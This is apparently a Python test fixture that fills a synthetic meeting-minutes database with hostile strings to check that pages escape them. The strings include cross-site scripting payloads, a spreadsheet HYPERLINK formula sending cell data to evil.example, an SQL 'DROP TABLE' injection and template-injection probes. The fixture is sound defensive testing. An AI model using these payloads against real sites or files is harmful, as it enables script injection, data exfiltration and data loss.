"""A synthetic database whose every word is hostile: markup, addresses of scripts, formulas, SQL, signs that steer."""

from __future__ import annotations

from itertools import count
from pathlib import Path
from typing import Any

from minutesminer.link.counts import link_counts
from minutesminer.link.series import link_series
from minutesminer.link.threads import link_requests
from minutesminer.store.database import open_database
from minutesminer.store.tables import TABLES
from minutesminer.store.tracker import Change, Record, add, find_record, save
from minutesminer.store.tracker_file import tracker_path

# Whatever of these runs leaves a flag in the window.
_HOSTILE = (
    '=HYPERLINK("https://evil.example/?x="&A1,"click")<script>window.hacked=1;alert(1)</script>',
    '"><img src=x onerror="window.hacked=2;alert(2)">',
    '\'><svg/onload=window.hacked=3><iframe srcdoc="<script>parent.hacked=4</script>">',
    "'); DROP TABLE items; --",
    "+1+1</title></textarea></style></script><script>window.hacked=5</script>",
    "-1+1|cmd' onmouseover='window.hacked=6' autofocus onfocus='window.hacked=7' x='",
    "@SUM(1+1)]]><b>bold</b>&lt;i&gt;&#60;script&#62;",
    "\t=1+1\u202eevil\u2066 \x00\x01\x1b[31m \ufffe",
    "{{ 7*7 }}{% import 'os' %}${7*7}⟦<u>⟧",
    'javascript:window.hacked=8//"`<!--',
)
# Each begins otherwise, and has all of them in it.
WORDS = tuple(" ".join(_HOSTILE[place:] + _HOSTILE[:place]) for place in range(len(_HOSTILE)))
ADDRESSES = (
    "javascript:window.hacked=9",
    'https://ok.example/"><script>window.hacked=10</script>',
    "//evil.example/x",
    "data:text/html,<script>parent.hacked=11</script>",
    " javascript:window.hacked=12",
    "https://ok.example/page?a=1&b=2#c",
    "http://[",
)
ID = 'x"><img src=x onerror=window.hacked=13>/?#%2e%00 &=+~ü'
COUNCIL, COMMITTEE, MEETING, MEASURE = (f"{name}-{ID}" for name in ("council", "committee", "meeting", "measure"))
DOCUMENT = "d'\"><script>window.hacked=14</script>"
ITEM, LATER = f"{DOCUMENT}.0", f"{DOCUMENT}.1"
TEXT = "\n".join(WORDS)


def records_of(letter: str) -> list[str]:
    """The ids of the two records of a class: one with the words of the text, and one over all of it."""
    return [f"{ITEM}.{letter}0-{len(WORDS[0])}", f"{ITEM}.{letter}0-{len(TEXT)}"]


def build(path: Path) -> None:
    """Write the database to `path`, and beside it a tracker in which every word is hostile too."""
    words = count()
    with open_database(path, write=True) as db, db.atomic():
        for table, description in TABLES.items():
            if table in _LINKED:
                continue
            rows = [_row(table, description, place, words) for place in (0, 1)]
            db.table(table).insert_all(rows, replace=True)
        link_series(db)
        link_counts(db)
        link_requests(db)
        for table, description in TABLES.items():
            if description.full_text:
                db.table(table).rebuild_fts()
    # Names are short there.
    name, other, third = _HOSTILE[:3]
    said = Change("open", WORDS[1], None, name)
    with open_database(path) as db:
        action = find_record(db.conn, records_of("a")[0])
    assert action is not None
    save(tracker_path(path), action, said, other)
    by_hand = Record("", "follow_up", council=name, committee=other, what=WORDS[2])
    add(tracker_path(path), by_hand, said, third)


# What linking fills.
_LINKED = frozenset(
    "series figure_counts period_values against_target quarter_counts committee_counts council_counts requests".split()
)
# What rows of each table are called, the two of them; other ids are words like any other.
_IDS: dict[str, tuple[str, str]] = {
    "councils": (COUNCIL, WORDS[1]),
    "committees": (COMMITTEE, WORDS[2]),
    "meetings": (MEETING, WORDS[3]),
    "measures": (MEASURE, WORDS[4]),
    "documents": (DOCUMENT, WORDS[5]),
    "items": (ITEM, LATER),
    **{
        table: (records_of(letter)[0], records_of(letter)[1])
        for table, letter in {"metrics": "m", "resolutions": "r", "actions": "a", "follow_ups": "f"}.items()
    },
}
# All rows hang together, and enough of them are as real rows are for every page to show them.
_REAL: dict[str, Any] = {
    "date": ("2024-03-18", "2024-02-05"),
    "due_date": ("2024-06-30", WORDS[7]),
    "outcome": ("ok", WORDS[6]),
    "strength": ("undertaken", "undertaken"),
    "role": ("actual", "target"),
    "kind": ("percentage", "percentage"),
    "unit": ("%", "%"),
    "says": ("answers", "answers"),
    "polarity": ("lower", WORDS[0]),
    "period_start": ("2023-04-01", None),
    "period_end": ("2024-03-31", None),
    "text": (TEXT, TEXT),
    "superseded_by": (None, None),
    "resolution_id": (None, None),
    "restates": (None, None),
    "first_id": (None, None),
}


def _row(table: str, description: Any, place: int, words: Any) -> dict[str, Any]:
    row: dict[str, Any] = {}
    for name, column in description.columns.items():
        refers = (column.references or "").partition(".")[0]
        if name == "id" and table in _IDS:
            row[name] = _IDS[table][place]
        elif name == "record_id":
            row[name] = (_IDS["actions"], _IDS["follow_ups"])[place][0]
        elif name in _REAL and (table not in ("attendance", "committees") or name not in ("role", "kind")):
            row[name] = _REAL[name][place]
        elif refers in _IDS:
            # All hang on the first: its pages show everything.
            row[name] = _IDS[refers][0]
        elif name in ("start_char", "end_char"):
            row[name] = {"start_char": 0, "end_char": (len(WORDS[0]), len(TEXT))[place]}[name]
        elif column.type == "TEXT":
            values = ADDRESSES if name in ("url", "website", "address", "final_address", "identifier_source") else WORDS
            row[name] = values[next(words) % len(values)]
        else:
            row[name] = place
    return row
